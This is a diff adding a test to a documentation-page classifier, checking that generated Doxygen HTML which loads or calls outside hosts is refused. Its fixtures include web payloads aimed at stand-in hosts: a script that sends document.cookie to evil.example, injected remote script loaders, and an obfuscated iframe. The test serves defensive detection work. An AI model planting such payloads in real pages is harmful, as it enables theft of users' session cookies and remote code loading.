@@ -218,6 +218,41 @@ describe('docsClassifier', () => {
     });
   });
 
+  // Red team 16: fuse3 3.14.0's Doxygen doc/html/index.html gaining <script src="https://cdn.example-mirror.net/…">, or
+  // an inline script sending document.cookie to a host, was GENERATED_DOCS low, exit 0.
+  it('refuses a generated page that loads or calls another host (twin: styles, images, a host the templates name)', async () => {
+    const page = (head: string, body = '') => `<html><head>${head}</head><body>${body}<script>$(function(){initMenu('',true,false,'search.php','Search');});</script></body></html>\n`;
+    expect(
+      await run({
+        'doc/api/index.html': page('<script src="https://cdn.example-mirror.net/jquery.min.js"></script>'),
+        'doc/api/a.html': page('', '<script>fetch("https://evil.example/c?"+document.cookie)</script>'),
+        'doc/api/b.html': page('<link rel="modulepreload" href="//evil.example/m.js">'),
+        'doc/api/c.html': page('', "<script>var s=document.createElement('script');s.src='//evil.example/x.js';</script>"),
+        'doc/api/d.html': page('<iframe src="https&#58;//evil.example/"></iframe>'),
+        'doc/api/e.html': page('<script src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>'),
+      }),
+    ).toEqual({
+      'doc/api/index.html': undefined,
+      'doc/api/a.html': undefined,
+      'doc/api/b.html': undefined,
+      'doc/api/c.html': undefined,
+      'doc/api/d.html': undefined,
+      'doc/api/e.html': undefined,
+    });
+    expect(
+      await run(
+        {
+          'doc/api/index.html': page('<link href="https://fonts.googleapis.com/css?family=Lato" rel="stylesheet"><script src="jquery.js"></script>', '<img src="https://lxml.de/logo.png"><a href="https://www.doxygen.org/">doxygen</a>'),
+          'doc/api/e.html': page('<script src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>'),
+        },
+        { ...GIT, 'doxygen/header.html': '<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>\n$projectname\n' },
+      ),
+    ).toEqual({
+      'doc/api/index.html': 'html<-doxygen/Doxyfile',
+      'doc/api/e.html': 'html<-doxygen/Doxyfile',
+    });
+  });
+
   it('decides man pages by name when content is not retained', async () => {
     expect(await run({ 'doc/big.1': 'x' }, GIT, ['doc/big.1'])).toEqual({ 'doc/big.1': 'man<--' });
   });
